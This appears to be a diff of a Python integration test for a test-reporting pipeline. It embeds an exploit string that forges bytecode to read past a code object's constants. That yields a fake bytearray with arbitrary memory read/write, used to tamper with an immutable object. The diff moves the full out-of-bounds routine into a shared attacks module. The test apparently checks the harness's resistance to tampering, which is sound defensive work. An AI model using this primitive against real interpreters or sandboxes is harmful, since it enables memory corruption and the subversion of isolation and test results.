@@ -23,13 +23,16 @@ from pathlib import Path
 import pytest
 
 from jouled.pipeline.testreport import PASSED
+from tests.integration import attacks as A
 from tests.pipeline.test_pytest_run import run_plan
 
 pytestmark = pytest.mark.skipif(
     sys.version_info < (3, 11), reason="the payload's bytecode is Python 3.11's and later"
 )
 
-EXPLOIT = r'''
+EXPLOIT = (
+    A.OOB_MEMORY
+    + r"""
 import dis, marshal, os, struct, sys, tempfile
 
 VALUE = 1
@@ -43,41 +46,14 @@ def _door(name, fn):
 def _victim():
     return ("JB-" + "UNTOUCHED").encode()
 
-def _oob_code(replace):
-    """Code whose LOAD_CONST reads a pointer to a fake bytearray spanning the memory."""
-    fake = struct.pack("<qqqqqqq", 1 << 30, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0)
-    consts = (None,)
-    kept = []
-    for _ in range(10000):  # a pointer placed above the constants
-        pointer = struct.pack("<Q", id(fake) + bytes.__basicsize__ - 1)
-        offset = id(pointer) + bytes.__basicsize__ - 1 - id(consts) - tuple.__basicsize__
-        if offset > 0 and offset % 8 == 0:
-            break
-        kept.append(pointer)
-    else:
-        raise LookupError("no layout for the fake object")
-    index = offset // 8
-    digits = []
-    while True:
-        digits.insert(0, index & 0xFF)
-        index >>= 8
-        if not index:
-            break
-    ops = [dis.opmap["RESUME"], 0]
-    for digit in digits[:-1]:
-        ops += [dis.opmap["EXTENDED_ARG"], digit]
-    ops += [dis.opmap["LOAD_CONST"], digits[-1], dis.opmap["RETURN_VALUE"], 0]
-    code = replace((lambda: None).__code__, bytes(ops), consts)
-    return code, (fake, pointer, consts, kept)
-
 def _write(memory):
     victim = _victim()
     memory[id(victim) + bytes.__basicsize__ - 1 + 3] = ord("X")
     return victim.decode()
 
 def _own():
-    code, keep = _oob_code(lambda c, b, k: c.replace(co_code=b, co_consts=k))
-    return _write(eval(code))
+    memory, keep = oob_memory(lambda c, b, k: c.replace(co_code=b, co_consts=k))
+    return _write(memory)
 
 def _thread():
     from concurrent.futures import ThreadPoolExecutor
@@ -86,8 +62,8 @@ def _thread():
         with ThreadPoolExecutor(1) as pool:
             return pool.submit(c.replace, co_code=b, co_consts=k).result()
 
-    code, keep = _oob_code(made_in_a_thread)
-    return _write(eval(code))
+    memory, keep = oob_memory(made_in_a_thread)
+    return _write(memory)
 
 def _sourceless():
     import importlib.machinery, importlib.util
@@ -126,7 +102,8 @@ def _fitted():
             return data
 
     return _load(Loader("jbhand", os.__file__))
-'''
+"""
+)
 
 FILES = {
     "pytest.ini": "[pytest]\n",
